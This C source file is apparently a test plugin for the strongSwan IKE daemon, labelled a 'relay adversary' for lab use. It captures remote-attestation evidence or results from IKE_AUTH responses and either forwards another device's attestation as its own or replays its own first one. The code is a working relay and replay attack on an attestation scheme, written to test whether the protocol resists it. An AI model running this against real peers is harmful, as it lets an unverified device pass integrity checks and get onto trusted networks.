/*
 * Copyright (C) 2026 ratkn developers
 *
 * This program is free software; you can redistribute it and/or modify it
 * under the terms of the GNU General Public License as published by the
 * Free Software Foundation; either version 2 of the License, or (at your
 * option) any later version.  See <http://www.fsf.org/copyleft/gpl.txt>.
 *
 * This program is distributed in the hope that it will be useful, but
 * WITHOUT ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
 * or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public License
 * for more details.
 */

#include "relay_plugin.h"

#include <ratkn_types.h>
#include <ratkn_result.h>

#include <daemon.h>
#include <threading/mutex.h>
#include <encoding/payloads/notify_payload.h>

typedef struct private_relay_plugin_t private_relay_plugin_t;

/**
 * Private data of the relay adversary.
 */
struct private_relay_plugin_t {

	/**
	 * Public interface.
	 */
	relay_plugin_t public;

	/**
	 * Listener hooking IKE_AUTH messages
	 */
	listener_t listener;

	/**
	 * Captured evidence or attestation result
	 */
	chunk_t captured;

	/**
	 * Notify type of what was captured
	 */
	int type;

	/**
	 * Replay our own first attestation instead of relaying others'
	 */
	bool replay;

	/**
	 * Lock for captured
	 */
	mutex_t *mutex;
};

/**
 * Find the attestation (evidence or result) in a message
 */
static notify_payload_t *find(message_t *message)
{
	notify_payload_t *notify;

	notify = message->get_notify(message, RATKN_NOTIFY_EVIDENCE);
	return notify ?: message->get_notify(message, RATKN_NOTIFY_RESULT);
}

/**
 * Replace the attestation in an outgoing message with the captured one
 */
static void forward(private_relay_plugin_t *this, ike_sa_t *ike_sa,
					message_t *message)
{
	enumerator_t *enumerator;
	payload_t *payload;
	notify_payload_t *notify;
	int type;

	enumerator = message->create_payload_enumerator(message);
	while (enumerator->enumerate(enumerator, &payload))
	{
		if (payload->get_type(payload) == PLV2_NOTIFY)
		{
			notify = (notify_payload_t*)payload;
			type = notify->get_notify_type(notify);
			if (type == RATKN_NOTIFY_EVIDENCE || type == RATKN_NOTIFY_RESULT)
			{
				message->remove_payload_at(message, enumerator);
				payload->destroy(payload);
			}
		}
	}
	enumerator->destroy(enumerator);
	message->add_notify(message, FALSE, this->type, this->captured);
	DBG1(DBG_IKE, "relay adversary: %s %zu bytes of captured %s to '%Y'",
		 this->replay ? "replaying" : "forwarding", this->captured.len,
		 this->type == RATKN_NOTIFY_RESULT ? "attestation result" : "evidence",
		 ike_sa->get_other_id(ike_sa));
}

/**
 * Capture an attestation
 */
static void capture(private_relay_plugin_t *this, ike_sa_t *ike_sa,
					notify_payload_t *notify)
{
	chunk_free(&this->captured);
	this->captured = chunk_clone(notify->get_notification_data(notify));
	this->type = notify->get_notify_type(notify);
	DBG1(DBG_IKE, "relay adversary: captured %zu bytes of %s %s '%Y'",
		 this->captured.len, this->type == RATKN_NOTIFY_RESULT ?
		 "attestation result" : "evidence", this->replay ? "sent to" : "from",
		 ike_sa->get_other_id(ike_sa));
}

/**
 * Implements listener_t.message; the listener is not the first member
 */
static bool message_hook(listener_t *listener, ike_sa_t *ike_sa,
						 message_t *message, bool incoming, bool plain)
{
	private_relay_plugin_t *this;
	notify_payload_t *notify;

	this = (private_relay_plugin_t*)((char*)listener -
									 offsetof(private_relay_plugin_t, listener));
	if (!plain || message->get_exchange_type(message) != IKE_AUTH ||
		message->get_request(message))
	{
		return TRUE;
	}
	this->mutex->lock(this->mutex);
	notify = find(message);
	if (incoming && !this->replay && notify)
	{	/* a genuine attester's response to us as relying party */
		capture(this, ike_sa, notify);
	}
	else if (!incoming && message->get_payload(message, PLV2_AUTH))
	{	/* our response as attester */
		if (this->captured.len)
		{
			forward(this, ike_sa, message);
		}
		else if (this->replay && notify)
		{
			capture(this, ike_sa, notify);
		}
	}
	this->mutex->unlock(this->mutex);
	return TRUE;
}

METHOD(plugin_t, get_name, char*,
	private_relay_plugin_t *this)
{
	return "ratkn-relay";
}

/**
 * Register the listener
 */
static bool plugin_cb(private_relay_plugin_t *this,
					  plugin_feature_t *feature, bool reg, void *cb_data)
{
	if (reg)
	{
		charon->bus->add_listener(charon->bus, &this->listener);
	}
	else
	{
		charon->bus->remove_listener(charon->bus, &this->listener);
	}
	return TRUE;
}

METHOD(plugin_t, get_features, int,
	private_relay_plugin_t *this, plugin_feature_t *features[])
{
	static plugin_feature_t f[] = {
		PLUGIN_CALLBACK((plugin_feature_callback_t)plugin_cb, NULL),
			PLUGIN_PROVIDE(CUSTOM, "ratkn-relay"),
				/* register after ratkn, so our hook sees its evidence */
				PLUGIN_DEPENDS(CUSTOM, "ratkn"),
	};
	*features = f;
	return countof(f);
}

METHOD(plugin_t, destroy, void,
	private_relay_plugin_t *this)
{
	chunk_free(&this->captured);
	this->mutex->destroy(this->mutex);
	free(this);
}

/**
 * Version field strongSwan >= 6.0.3 requires to load the plugin (see
 * ratkn_plugin.c)
 */
const char *ratkn_relay_plugin_version = VERSION;

/*
 * Described in header
 */
plugin_t *ratkn_relay_plugin_create()
{
	private_relay_plugin_t *this;

	INIT(this,
		.public = {
			.plugin = {
				.get_name = _get_name,
				.get_features = _get_features,
				.destroy = _destroy,
			},
		},
		.listener = {
			.message = message_hook,
		},
		.mutex = mutex_create(MUTEX_TYPE_DEFAULT),
		.replay = streq(lib->settings->get_str(lib->settings,
							"%s.plugins.ratkn-relay.mode", "relay", lib->ns),
						"replay"),
	);
	DBG1(DBG_CFG, "relay adversary loaded: this charon %s ratkn attestation "
		 "(lab test only)", this->replay ? "replays its first" :
		 "forwards others'");
	return &this->public.plugin;
}
